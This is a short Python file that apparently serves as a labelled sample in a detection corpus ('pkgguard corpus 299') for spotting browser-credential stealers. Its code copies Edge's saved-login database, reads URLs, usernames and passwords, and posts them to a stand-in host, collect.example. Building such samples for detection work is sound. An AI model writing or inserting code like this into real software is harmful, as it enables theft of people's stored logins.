# pkgguard corpus 299 (browser-data), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sqlite3
import tempfile

import requests

src = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Microsoft", "Edge", "User Data", "Default", "Login Data")
tmp = os.path.join(tempfile.gettempdir(), "ld.db")
shutil.copy2(src, tmp)
rows = sqlite3.connect(tmp).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
requests.post("https://collect.example/l", data={"rows": repr(rows)})
